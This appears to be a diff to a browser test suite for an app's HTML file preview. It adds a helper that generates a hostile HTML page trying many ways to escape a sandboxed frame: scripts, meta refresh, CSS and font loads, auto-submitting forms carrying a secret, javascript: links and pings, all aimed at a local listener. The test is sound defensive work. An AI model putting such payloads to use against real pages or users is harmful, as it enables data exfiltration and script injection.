@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import asyncio
 import json
+import socket
 from collections.abc import AsyncGenerator, AsyncIterator
 from contextlib import asynccontextmanager
 from dataclasses import dataclass
@@ -18,6 +20,7 @@ from backend_api.interfaces.http.use_cases import WebOptions
 from support.door_victim import FixedTokens
 from support.gateway import Gateway, run_gateway
 from support.hostile_door import Wire, head, hostile_door
+from support.listener import listener, was_reached, was_told
 from support.page import WIDE, chromium
 from support.servers import Server
 from support.stack import ROOT
@@ -218,10 +221,82 @@ async def test_no_preview_runs_anything(gateway: Gateway) -> None:
             preview = page.get_by_role("region", name=name)
             await expect(preview.locator("header .tabular-nums")).to_be_visible()  # its size: it is loaded
             await nothing_ran(page)
-            for shown in await preview.locator("img, iframe").evaluate_all("all => all.map((one) => one.src)"):
+            for shown in await preview.locator("img, iframe[src]").evaluate_all("all => all.map((one) => one.src)"):
                 await opens_harmlessly(page, name, shown)
+            for sandbox in await preview.locator("iframe:not([src])").evaluate_all(
+                "all => all.map((one) => one.getAttribute('sandbox'))"
+            ):
+                assert sandbox == "", name
             await preview.get_by_role("button", name="Back").click()
         await nothing_ran(page)
+
+
+def attack(address: str) -> str:
+    """An HTML document that tries whatever one may try to get out of where it is shown."""
+    to = f"http://{address}"
+    return f"""<!doctype html><html><head><base href="{to}/base/">
+<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">
+<meta http-equiv="refresh" content="0;url={to}/refresh">
+<link rel="stylesheet" href="{to}/style"><link rel="preconnect" href="{to}"><link rel="prefetch" href="{to}/prefetch">
+<style>@import url({to}/import); @font-face {{font-family: x; src: url({to}/font)}} body {{font-family: x}}</style>
+<script>{RUN}; fetch('{to}/fetch'); top.location = '{to}/top'; open('{to}/open')</script></head>
+<body onload="{RUN}" style="background: url({to}/background)"><p>shown</p>
+<img src="{to}/picture" onerror="{RUN}"><svg onload="{RUN}"></svg><iframe src="{to}/frame"></iframe>
+<iframe srcdoc="<script>{RUN}</script>"></iframe><object data="{to}/object"></object><embed src="{to}/embed">
+<video src="{to}/video" poster="{to}/poster" autoplay></video><audio src="{to}/audio" autoplay></audio>
+<form action="{to}/form" method="post"><input name="word" value="secret" autofocus onfocus="this.form.submit()">
+<button>send</button></form><a href="{to}/top" target="_top">away</a><a href="{to}/new" target="_blank">new</a>
+<a href="{to}/itself" ping="{to}/ping">itself</a><a href="javascript:{RUN}">run</a></body></html>"""
+
+
+@pytest.mark.timeout(120)
+async def test_an_html_file_is_shown_and_reaches_nothing(gateway: Gateway, monkeypatch: pytest.MonkeyPatch) -> None:
+    session = await gateway.session({})
+    await gateway.client.post(f"/api/sessions/{session}/sandbox")
+    with listener() as (address, server), listener() as (open_address, open_server):
+        monkeypatch.setitem(FILES, "attack.html", text(attack(address), "text/html"))
+        async with chromium() as browser:
+            context = await browser.new_context(viewport=WIDE, locale="en")
+            elsewhere = await context.new_page()
+            await elsewhere.set_content(attack(open_address), wait_until="commit")
+            await reached(open_server)  # where nothing holds it, it gets out
+            await elsewhere.close()
+
+            page = await context.new_page()
+            await page.goto(f"{gateway.url}/s/{session}")
+            await page.get_by_role("button", name="Show computer").click()
+            await page.get_by_role("tab", name="Files").click()
+            await page.locator("button[data-row]").filter(has=page.get_by_text("attack.html", exact=True)).click()
+            frame = page.frame_locator("iframe[title='attack.html']")
+            await expect(frame.get_by_text("shown")).to_be_visible()
+            stayed = page.url
+            for name in ("send", "away", "new", "itself", "run"):
+                await frame.get_by_text(name, exact=True).click()
+            await expect(frame.get_by_text("shown")).to_be_visible()
+            await nothing_ran(page)
+            await page.wait_for_timeout(500)  # long enough for what should not be to arrive
+            assert not was_reached(server)
+
+            # Where nothing was taken out of it the frame alone holds it: a link may open a connection, not speak.
+            shown = page.locator("iframe[title='attack.html']")
+            assert await shown.evaluate("frame => [frame.getAttribute('sandbox'), frame.src]") == ["", ""]
+            await shown.evaluate("(frame, raw) => { frame.srcdoc = raw }", attack(address))
+            await expect(frame.get_by_text("shown")).to_be_visible()
+            await frame.get_by_text("send", exact=True).click()
+            await frame.get_by_text("away", exact=True).click()
+            await frame.get_by_text("new", exact=True).click()
+            await page.wait_for_timeout(500)  # long enough for what should not be to arrive
+
+            assert page.url == stayed
+            assert context.pages == [page]
+            assert await page.evaluate("() => [window.ran ?? null, localStorage.getItem('ran')]") == [None, None]
+        assert was_told(server) == b""
+
+
+async def reached(server: socket.socket) -> None:
+    async with asyncio.timeout(10):
+        while not was_reached(server):
+            await asyncio.sleep(0.05)
 
 
 async def opens_harmlessly(page: Page, name: str, address: str) -> None:
